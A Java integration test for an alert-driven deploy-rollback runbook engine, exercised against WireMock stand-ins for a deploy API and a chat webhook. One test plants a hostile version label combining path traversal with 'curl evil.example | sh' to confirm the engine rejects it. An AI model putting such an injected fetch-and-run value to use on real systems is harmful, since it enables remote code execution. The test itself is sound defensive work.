package dev.quench.runbooks;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.equalToJson;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathMatching;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static com.github.tomakehurst.wiremock.stubbing.Scenario.STARTED;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import dev.quench.core.boot.Engine;
import dev.quench.core.config.QuenchConfig;
import dev.quench.core.store.RunRecord;
import dev.quench.core.store.RunStatus;
import dev.quench.core.store.StepRecord;
import dev.quench.core.util.Json;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The shipped {@code deploy-rollback} runbook end to end: an Alertmanager notification posted to a real engine's
 * webhook, WireMock acting as the deploy API with state (v42 live; after the rollback POST v41 rolls out and its
 * health turns green a check later) and as the team's chat webhook. Asserts what the deploy API received
 * (method, path, body, bearer token), the run record (steps, verify phase, status, toil), and the escalation.
 *
 * <p>The runbook is the shipped file with one change: its verify deadline is 8s, checked every second, instead of
 * 5m every 15s, so the failure case ends in seconds.
 */
class DeployRollbackIT {

    private static final String TOKEN = "deploy-api-t0ken";
    private static final String CHAT_PATH = "/chat/hooks/T0/B0/XXXX";
    private static final String RELEASES = "/api/v1/services/checkout/releases";
    private static final String ROLLBACK = "/api/v1/services/checkout/rollback";
    private static final String HEALTH = "/api/v1/services/checkout/releases/v41/health";

    @TempDir
    Path temp;

    private WireMockServer deployApi;
    private Engine engine;
    private final HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    @BeforeEach
    void startDeployApi() {
        deployApi = new WireMockServer(options().bindAddress("127.0.0.1").dynamicPort());
        deployApi.start();
        deployApi.stubFor(post(urlEqualTo(CHAT_PATH)).willReturn(aResponse().withStatus(200).withBody("ok")));
    }

    @AfterEach
    void stop() {
        if (engine != null) {
            engine.close();
        }
        deployApi.stop();
    }

    /** v42 live with v41 before it; a rollback POST makes v41 live, unhealthy at its first check, healthy after. */
    private void deployApiRollsBack(boolean turnsHealthy) {
        deployApi.stubFor(get(urlEqualTo(RELEASES)).inScenario("deploy").whenScenarioStateIs(STARTED)
                .willReturn(json(200, "{\"current\": {\"version\": \"v42\"}, \"previous\": {\"version\": \"v41\"}}")));
        deployApi.stubFor(post(urlEqualTo(ROLLBACK)).inScenario("deploy").whenScenarioStateIs(STARTED)
                .willReturn(json(202, "{\"state\": \"rolling back\"}")).willSetStateTo("rolling back"));
        deployApi.stubFor(get(urlEqualTo(HEALTH)).inScenario("deploy").whenScenarioStateIs("rolling back")
                .willReturn(json(503, "{\"version\": \"v41\", \"healthy\": false}"))
                .willSetStateTo(turnsHealthy ? "v41 live" : "rolling back"));
        deployApi.stubFor(get(urlEqualTo(HEALTH)).inScenario("deploy").whenScenarioStateIs("v41 live")
                .willReturn(json(200, "{\"version\": \"v41\", \"healthy\": true}")));
        for (String state : List.of("rolling back", "v41 live")) {
            deployApi.stubFor(get(urlEqualTo(RELEASES)).inScenario("deploy").whenScenarioStateIs(state)
                    .willReturn(json(200, "{\"current\": {\"version\": \"v41\"}, \"previous\": {\"version\": \"v40\"}}")));
            // A second rollback would go back to v40: the deploy API takes it, so only the runbook can prevent it.
            deployApi.stubFor(post(urlEqualTo(ROLLBACK)).inScenario("deploy").whenScenarioStateIs(state)
                    .willReturn(json(202, "{\"state\": \"rolling back to v40\"}")));
        }
    }

    private static com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder json(int status, String body) {
        return aResponse().withStatus(status).withHeader("Content-Type", "application/json").withBody(body);
    }

    @Test
    void aBadReleaseIsRolledBackToThePreviousOneAndVerifiedLiveAndHealthy() throws Exception {
        deployApiRollsBack(true);
        startEngine();

        postAlerts(notification(alert("checkout", "v42", "checkout-1", "a1")));
        List<RunRecord> runs = awaitFinishedRuns(1);

        RunRecord run = runs.getFirst();
        assertThat(run.status()).as(run.message()).isEqualTo(RunStatus.SUCCEEDED);
        assertThat(run.toilSavedMinutes()).isEqualTo(25);
        assertThat(run.steps()).extracting(StepRecord::stepId, StepRecord::phase, StepRecord::status)
                .containsExactly(tuple("releases", "run", "succeeded"), tuple("still_live", "run", "skipped"),
                        tuple("has_previous", "run", "skipped"), tuple("rollback", "run", "succeeded"),
                        tuple("previous_live_and_healthy", "verify", "succeeded"));
        assertThat(step(run, "previous_live_and_healthy").message()).startsWith("passed on check 2 ");
        assertThat(step(run, "releases").outputs()).containsEntry("live", "v42").containsEntry("previous", "v41");

        List<LoggedRequest> requests = deployApi.getAllServeEvents().stream()
                .map(event -> event.getRequest())
                .sorted(Comparator.comparing(LoggedRequest::getLoggedDate))
                .toList();
        assertThat(requests).extracting(request -> request.getMethod().getName() + " " + request.getUrl())
                .containsExactly("GET " + RELEASES, "POST " + ROLLBACK, "GET " + HEALTH, "GET " + HEALTH);
        assertThat(requests).allSatisfy(request ->
                assertThat(request.getHeader("Authorization")).isEqualTo("Bearer " + TOKEN));
        deployApi.verify(1, postRequestedFor(urlEqualTo(ROLLBACK))
                .withHeader("X-Quench-Run", equalTo(run.id()))
                .withRequestBody(equalToJson("""
                        {"from": "v42", "to": "v41", "reason": "DeployErrorRateHigh for v42", "requestedBy": "quench"}
                        """)));
        deployApi.verify(0, postRequestedFor(urlEqualTo(CHAT_PATH)));
        assertThat(step(run, "rollback").rendered().toString()).doesNotContain(TOKEN);
    }

    @Test
    void aReleaseThatNeverTurnsHealthyIsNotRecoveredAndTheTeamIsTold() throws Exception {
        deployApiRollsBack(false);
        startEngine();

        postAlerts(notification(alert("checkout", "v42", "checkout-1", "b1")));
        RunRecord run = awaitFinishedRuns(1).getFirst();

        assertThat(run.status()).isEqualTo(RunStatus.FAILED);
        assertThat(run.toilSavedMinutes()).isZero();
        assertThat(run.message()).startsWith("not recovered: previous_live_and_healthy: did not pass in ")
                .contains("(every 1s, timeout 8s)").contains("503");
        assertThat(run.steps()).extracting(StepRecord::stepId, StepRecord::phase, StepRecord::status)
                .containsExactly(tuple("releases", "run", "succeeded"), tuple("still_live", "run", "skipped"),
                        tuple("has_previous", "run", "skipped"), tuple("rollback", "run", "succeeded"),
                        tuple("previous_live_and_healthy", "verify", "failed"), tuple("tell_team", "run", "succeeded"));
        deployApi.verify(1, postRequestedFor(urlEqualTo(ROLLBACK)));
        assertThat(deployApi.countRequestsMatching(getRequestedFor(urlEqualTo(HEALTH)).build()).getCount())
                .isBetween(5, 9);

        List<LoggedRequest> told = deployApi.findAll(postRequestedFor(urlEqualTo(CHAT_PATH)));
        assertThat(told).hasSize(1);
        String text = Json.json().readTree(told.getFirst().getBodyAsString()).path("text").asText();
        assertThat(text).startsWith("DeployErrorRateHigh: checkout v42 needs a person. Quench's rollback run "
                        + run.id() + " stopped at previous_live_and_healthy: did not pass in ")
                .contains("503");
    }

    /**
     * Two replicas alert for one bad release in one notification, with a third alert whose version label carries
     * shell and path syntax. The lock makes the two runs take turns; the second reads v41 live and refuses, so the
     * deploy API sees exactly one rollback (it would have taken a second one, to v40). The hostile alert starts
     * nothing.
     */
    @Test
    void aSecondAlertForTheSameReleaseRollsNothingBackAndAHostileVersionStartsNothing() throws Exception {
        deployApiRollsBack(true);
        startEngine();

        postAlerts(notification(alert("checkout", "v42", "checkout-1", "c1"), alert("checkout", "v42", "checkout-2", "c2"),
                alert("checkout", "v42/../../rollback; curl evil.example | sh", "checkout-3", "c3")));
        List<RunRecord> runs = awaitFinishedRuns(2);

        assertThat(runs).hasSize(2);
        assertThat(runs).extracting(RunRecord::status)
                .containsExactlyInAnyOrder(RunStatus.SUCCEEDED, RunStatus.FAILED);
        RunRecord refused = runs.stream().filter(run -> run.status() == RunStatus.FAILED).findFirst().orElseThrow();
        assertThat(refused.steps()).extracting(StepRecord::stepId, StepRecord::status)
                .containsExactly(tuple("releases", "succeeded"), tuple("still_live", "failed"),
                        tuple("tell_team", "succeeded"));
        assertThat(refused.message()).contains("step 'still_live'")
                .contains("refused: the alert names release v42 of checkout but the deploy API says v41 is live");
        assertThat(refused.toilSavedMinutes()).isZero();

        deployApi.verify(1, postRequestedFor(urlEqualTo(ROLLBACK)));
        deployApi.verify(0, anyRequestedFor(urlPathMatching(".*(evil|%3B|;).*")));
        List<LoggedRequest> told = deployApi.findAll(postRequestedFor(urlEqualTo(CHAT_PATH)));
        assertThat(told).singleElement().satisfies(request -> assertThat(request.getBodyAsString())
                .contains("stopped at still_live").contains("Quench rolled nothing back"));
        // The two replicas' alerts came in one Alertmanager group: one incident, its toil counted once.
        JsonNode incidents = getJson("/api/v1/incidents").path("incidents");
        assertThat(incidents).hasSize(1);
        assertThat(incidents.get(0).path("runs").asInt()).isEqualTo(2);
        assertThat(incidents.get(0).path("groupKey").asText()).startsWith("@alertmanager:{}/{severity=");
        assertThat(runs).extracting(RunRecord::toilSavedMinutes).containsExactlyInAnyOrder(25, 0);
        JsonNode unmatched = getJson("/api/v1/alerts?matched=false");
        assertThat(unmatched.toString()).as("the hostile alert is kept as manual toil, unmatched").contains("checkout-3")
                .doesNotContain("checkout-1");
    }

    private void startEngine() throws Exception {
        String shipped = Files.readString(Path.of("deploy-rollback.yaml"));
        String deadline = "    timeout: 5m\n    every: 15s\n";
        assertThat(shipped).as("the shipped verify deadline this test shortens").containsOnlyOnce(deadline);
        Path runbooks = Files.createDirectories(temp.resolve("runbooks"));
        Files.writeString(runbooks.resolve("deploy-rollback.yaml"),
                shipped.replace(deadline, "    timeout: 8s\n    every: 1s\n"));
        Path token = Files.writeString(temp.resolve("deploy.token"), TOKEN + "\n");
        Path chat = Files.writeString(temp.resolve("chat.url"), deployApi.baseUrl() + CHAT_PATH + "\n");
        ObjectNode secrets = Json.yaml().createObjectNode();
        secrets.putObject("deploy_api_token").put("file", token.toString());
        secrets.putObject("release_chat_webhook").put("file", chat.toString());
        QuenchConfig config = QuenchConfig.defaults(temp.resolve("data")).withHost("127.0.0.1").withPort(0)
                .withRunbooks(runbooks)
                .withSections(Map.<String, JsonNode>of("secrets", secrets))
                .withRunbookParams(Map.of("deploy-rollback", Map.of("deployApi", deployApi.baseUrl() + "/api/v1")));
        engine = Engine.start(config);
        assertThat(engine.runbooks().problems()).isEmpty();
    }

    private static String alert(String service, String version, String instance, String fingerprint) {
        ObjectNode alert = Json.json().createObjectNode().put("status", "firing");
        alert.putObject("labels").put("alertname", "DeployErrorRateHigh").put("service", service)
                .put("version", version).put("instance", instance).put("severity", "critical");
        alert.putObject("annotations").put("summary", "5xx ratio above 5% since the deploy of " + version);
        alert.put("startsAt", "2026-12-05T08:58:14Z").put("fingerprint", fingerprint);
        return alert.toString();
    }

    private static String notification(String... alerts) {
        return """
                {"version": "4", "groupKey": "{}/{severity=\\"critical\\"}:{alertname=\\"DeployErrorRateHigh\\"}",
                 "status": "firing", "receiver": "quench", "truncatedAlerts": 0,
                 "groupLabels": {"alertname": "DeployErrorRateHigh"}, "commonLabels": {}, "commonAnnotations": {},
                 "externalURL": "http://alertmanager.example:9093",
                 "alerts": [%s]}""".formatted(String.join(",", alerts));
    }

    private void postAlerts(String body) throws Exception {
        HttpResponse<String> answer = client.send(HttpRequest.newBuilder(uri("/hooks/alertmanager"))
                .header("Content-Type", "application/json")
                .header("Authorization", "Bearer " + engine.apiToken().value())
                .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(202);
    }

    private JsonNode getJson(String path) throws Exception {
        HttpResponse<String> answer = client.send(HttpRequest.newBuilder(uri(path))
                .header("Authorization", "Bearer " + engine.apiToken().value()).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        return Json.json().readTree(answer.body());
    }

    private URI uri(String path) {
        return URI.create("http://127.0.0.1:" + engine.port() + path);
    }

    /** Waits (60 s at most) until {@code count} runs have finished and the engine is idle; returns them, oldest first. */
    private List<RunRecord> awaitFinishedRuns(int count) throws InterruptedException {
        Instant deadline = Instant.now().plusSeconds(60);
        while (true) {
            List<RunRecord> runs = engine.store().runs().list(null, null, 100);
            long finished = runs.stream().filter(run -> run.finishedAt() != null).count();
            if (finished >= count && engine.dispatcher().awaitIdle(deadline)) {
                return runs.stream().sorted(Comparator.comparing(RunRecord::createdAt))
                        .map(run -> engine.store().runs().find(run.id()).orElseThrow()).toList();
            }
            if (Instant.now().isAfter(deadline)) {
                throw new AssertionError(finished + " of " + count + " runs finished within 60s: " + runs);
            }
            Thread.sleep(100);
        }
    }

    private static StepRecord step(RunRecord run, String id) {
        return run.steps().stream().filter(step -> step.stepId().equals(id)).findFirst()
                .orElseThrow(() -> new AssertionError("run " + run.id() + " has no step " + id + ": " + run.steps()));
    }
}
